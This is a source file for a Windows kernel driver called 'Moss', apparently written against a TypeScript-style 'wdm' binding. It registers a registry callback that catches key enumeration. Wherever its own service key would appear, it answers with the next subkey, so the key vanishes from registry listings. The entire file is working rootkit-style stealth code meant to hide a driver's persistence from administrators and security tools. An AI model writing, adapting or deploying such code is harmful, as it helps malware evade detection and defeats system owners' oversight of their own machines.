/*
 * Moss: leaves its own service key out when the registry is listed.
 *
 * A registry callback is told after a subkey was named, and may put another answer in its place. So
 * where its key would be named, it asks for the next one instead; from there on every subkey is the
 * one after that. The list has no gap, and it ends one entry earlier.
 */
import {
  CmRegisterCallbackEx,
  CmUnRegisterCallback,
  ExAllocatePool2,
  ExFreePoolWithTag,
  KEY_BASIC_INFORMATION,
  KEY_READ,
  KernelMode,
  KeyBasicInformation,
  LARGE_INTEGER,
  NT_SUCCESS,
  OBJ_KERNEL_HANDLE,
  ObOpenObjectByPointer,
  POOL_FLAG_PAGED,
  REG_ENUMERATE_KEY_INFORMATION,
  REG_POST_OPERATION_INFORMATION,
  RTL_CONSTANT_STRING,
  RegNtPostEnumerateKey,
  STATUS_CALLBACK_BYPASS,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_SUCCESS,
  ULONG_PTR,
  ZwClose,
  ZwEnumerateKey,
  addressof,
  cast,
  out,
  sizeof,
} from 'wdm'
import type { DRIVER_OBJECT, HANDLE, NTSTATUS, PVOID, ULONG, UNICODE_STRING } from 'wdm'

const TAG = 'ssoM'

/** The key it was seen in, and at which number; the number is asked for in order, from 0. */
let hiddenIn: PVOID = null
let hiddenAt: ULONG = 0
/** The driver's own question comes through here as well. */
let isAsking = false

/** Identifies the callback when it is taken out. */
let cookie: LARGE_INTEGER = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = MossUnload
  const place = ExAllocatePool2(POOL_FLAG_PAGED, sizeof(LARGE_INTEGER), TAG)
  if (place === null) return STATUS_INSUFFICIENT_RESOURCES
  cookie = cast(LARGE_INTEGER, place)
  const status = CmRegisterCallbackEx(
    MossCallback,
    RTL_CONSTANT_STRING('362000'),
    DriverObject,
    null,
    cookie,
    null,
  )
  if (!NT_SUCCESS(status)) ExFreePoolWithTag(place, TAG)
  return status
}

function MossCallback(CallbackContext: PVOID, Argument1: PVOID, Argument2: PVOID): NTSTATUS {
  const notify = Number(cast(ULONG_PTR, Argument1))
  if (notify !== RegNtPostEnumerateKey) return STATUS_SUCCESS
  const told = cast(REG_POST_OPERATION_INFORMATION, Argument2)
  if (!NT_SUCCESS(told.Status)) return STATUS_SUCCESS
  const asked = cast(REG_ENUMERATE_KEY_INFORMATION, told.PreInformation)
  // The names of services are asked for in the short form.
  if (asked.KeyInformationClass !== KeyBasicInformation) return STATUS_SUCCESS
  if (isAsking) return STATUS_SUCCESS
  if (IsOwnName(cast(KEY_BASIC_INFORMATION, asked.KeyInformation))) {
    hiddenIn = told.Object
    hiddenAt = asked.Index
  }
  if (told.Object !== hiddenIn || asked.Index < hiddenAt) return STATUS_SUCCESS
  told.ReturnStatus = AnswerWith(told.Object, asked.Index + 1, asked)
  // The answer is this driver's now, not the registry's.
  return STATUS_CALLBACK_BYPASS
}

/** Whether an entry names the driver's key: 'Moss', four characters. */
function IsOwnName(Entry: KEY_BASIC_INFORMATION): boolean {
  return Entry.NameLength === 8 && addressof(Entry.Name).u64[0] === 0x00730073006f004dn
}

/** Name another subkey, in the memory of whoever asked. */
function AnswerWith(Key: PVOID, Index: ULONG, Asked: REG_ENUMERATE_KEY_INFORMATION): NTSTATUS {
  const handle = out<HANDLE>()
  const status = ObOpenObjectByPointer(
    Key,
    OBJ_KERNEL_HANDLE,
    null,
    KEY_READ,
    null,
    KernelMode,
    handle,
  )
  if (!NT_SUCCESS(status)) return status
  isAsking = true
  const answer = ZwEnumerateKey(
    handle.value,
    Index,
    Asked.KeyInformationClass,
    Asked.KeyInformation,
    Asked.Length,
    Asked.ResultLength,
  )
  isAsking = false
  ZwClose(handle.value)
  return answer
}

function MossUnload(DriverObject: DRIVER_OBJECT): void {
  CmUnRegisterCallback(cookie)
  ExFreePoolWithTag(cookie, TAG)
}
